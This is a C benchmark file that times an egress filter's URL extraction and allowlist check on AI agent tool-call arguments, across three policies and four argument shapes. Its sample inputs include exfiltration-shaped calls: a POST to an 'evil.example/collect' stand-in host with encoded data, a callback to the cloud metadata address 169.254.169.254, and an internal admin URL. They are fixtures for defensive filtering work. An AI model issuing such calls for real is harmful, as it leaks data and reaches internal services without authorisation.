/*
 * pc-bench-egress: what the egress filter's check costs per tool call, on one core.
 *
 *   pc-bench-egress [ROUNDS_MS]
 *
 * The check is what the filter runs once per tool call (JSON answer, or a streamed call when its
 * arguments are complete): every URL in the arguments found (filters/urlfind.c: every JSON
 * string, nested JSON strings too) and each judged by the policy (filters/egress_policy.c:
 * WHATWG canonicalisation with IDNA, then the allowlist). Measured for three policies — the
 * default config's (no entries: internal addresses and other schemes denied), a 20-entry
 * allowlist (exact hosts, wildcards, CIDR ranges, a port, path prefixes), and a 1,000-host
 * allowlist — over four argument shapes:
 *   - none:   {"query": ...} of 120 bytes, no URL;
 *   - one:    {"url": "https://..."} (the common fetch call);
 *   - four:   1 KB, four URLs in prose and fields and a nested JSON string;
 *   - doc:    8 KB of prose with a URL every 160 bytes or so (a write_file / send_email call).
 * Each best of 5 rounds of at least ROUNDS_MS (default 300) ms; prints
 *   "<policy> <shape> <bytes> B <urls> URLs <ns per call> ns <MB/s>".
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "filters/egress_policy.h"
#include "filters/urlfind.h"

static double
now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

struct counter {
    const struct gw_egress_policy *p;
    long urls, denied;
};

static int
visit(void *ctx, const char *url, size_t len, unsigned flags, size_t offset)
{
    struct counter *c = ctx;
    (void)offset;
    c->urls++;
    if (gw_egress_check(c->p, url, len, flags & GW_URLFIND_BARE ? GW_EGRESS_BARE : 0) !=
        GW_EGRESS_OK)
        c->denied++;
    return 0;
}

static void
add(struct gw_egress_policy *p, const char *e)
{
    char err[160];
    if (gw_egress_policy_allow(p, e, strlen(e), err, sizeof(err)) < 0) {
        fprintf(stderr, "pc-bench-egress: entry %s: %s\n", e, err);
        exit(1);
    }
}

static char *
doc_args(void)
{
    static const char *const urls[] = {
        "https://docs.example.com/guide/intro?x=1",
        "https://evil.example/c?d=QZXJVW",
        "http://10.0.0.7:8080/admin",
        "https://img.cdn.example.com/a.png",
    };
    size_t cap = 16384, n = 0;
    char *b = malloc(cap);
    if (!b)
        exit(1);
    n += (size_t)snprintf(b, cap, "{\"path\":\"report.md\",\"content\":\"");
    for (int i = 0; n < 8000; i++)
        n += (size_t)snprintf(b + n, cap - n,
                              "Paragraph %d of the quarterly report: revenue grew, costs fell, and "
                              "the team shipped the new onboarding flow. See %s for details. ",
                              i, urls[i % 4]);
    snprintf(b + n, cap - n, "\"}");
    return b;
}

int
main(int argc, char **argv)
{
    double round_s = (argc > 1 ? atof(argv[1]) : 300) / 1000.0;
    struct gw_egress_policy *pol[3];
    const char *pname[3] = {"default", "allow-20", "allow-1000"};
    for (int i = 0; i < 3; i++)
        if (!(pol[i] = gw_egress_policy_new()))
            return 1;
    static const char *const twenty[] = {"docs.example.com",
                                         "*.cdn.example.com",
                                         "api.example.com:8443",
                                         "https://api.example.org/v1/",
                                         "10.2.0.0/16",
                                         "[fd00:1::]/64",
                                         "*.corp.example",
                                         "search.example.net",
                                         "https://files.example.com/public/",
                                         "*.googleapis.com",
                                         "github.com",
                                         "*.github.com",
                                         "raw.githubusercontent.com",
                                         "pypi.org",
                                         "files.pythonhosted.org",
                                         "registry.npmjs.org",
                                         "*.wikipedia.org",
                                         "arxiv.org",
                                         "export.arxiv.org",
                                         "192.168.10.5"};
    for (size_t i = 0; i < sizeof(twenty) / sizeof(twenty[0]); i++)
        add(pol[1], twenty[i]);
    for (int i = 0; i < 1000; i++) {
        char h[64];
        snprintf(h, sizeof(h), i % 3 ? "host%d.example-%d.com" : "*.zone%d.example-%d.net", i,
                 i % 17);
        add(pol[2], h);
    }
    add(pol[2], "docs.example.com");

    char *doc = doc_args();
    const struct {
        const char *name, *args;
    } shapes[] = {
        {"none", "{\"query\":\"quarterly revenue by region for the last three fiscal years, "
                 "excluding discontinued product lines\",\"limit\":20}"},
        {"one", "{\"url\":\"https://docs.example.com/guide/intro?section=2&lang=en\"}"},
        {"four",
         "{\"url\":\"https://evil.example/collect?d=QZXJVWKQPZ\",\"method\":\"POST\",\"headers\":"
         "{\"content-type\":\"application/json\"},\"body\":\"{\\\"callback\\\":\\\"http://"
         "169.254.169.254/latest/meta-data/\\\",\\\"n\\\":1}\",\"note\":\"mirror at "
         "https://img.cdn.example.com/a.png and //evil.example/x; the rest of this note is plain "
         "prose that talks about the weather, the team offsite, the budget review and other "
         "matters that carry no address at all, padded to make the arguments about one kilobyte "
         "long as a realistic agent call with a body and a free-text note would be, with some "
         "more words: alpha beta gamma delta epsilon zeta eta theta iota kappa lambda mu nu xi "
         "omicron pi rho sigma tau upsilon phi chi psi omega, and the numbers 3.14, 2.72, 1:2 and "
         "v1.2.3 that are not addresses either, nor is notes.md or src/main.c or e.g. this.\","
         "\"retries\":3}"},
        {"doc", doc},
    };
    for (int pi = 0; pi < 3; pi++)
        for (size_t si = 0; si < sizeof(shapes) / sizeof(shapes[0]); si++) {
            size_t n = strlen(shapes[si].args);
            struct counter c = {pol[pi], 0, 0};
            if (gw_urlfind_json(shapes[si].args, n, visit, &c, "", NULL, NULL) < 0)
                return 1;
            long urls = c.urls;
            double best = 1e30;
            for (int r = 0; r < 5; r++) {
                long iters = 0;
                double t0 = now(), t;
                do {
                    for (int k = 0; k < 64; k++)
                        gw_urlfind_json(shapes[si].args, n, visit, &c, "", NULL, NULL);
                    iters += 64;
                } while ((t = now() - t0) < round_s);
                if (t / (double)iters < best)
                    best = t / (double)iters;
            }
            printf("%s %s %zu B %ld URLs %.0f ns %.1f MB/s\n", pname[pi], shapes[si].name, n, urls,
                   best * 1e9, (double)n / best / 1e6);
        }
    for (int i = 0; i < 3; i++)
        gw_egress_policy_free(pol[i]);
    free(doc);
    return 0;
}
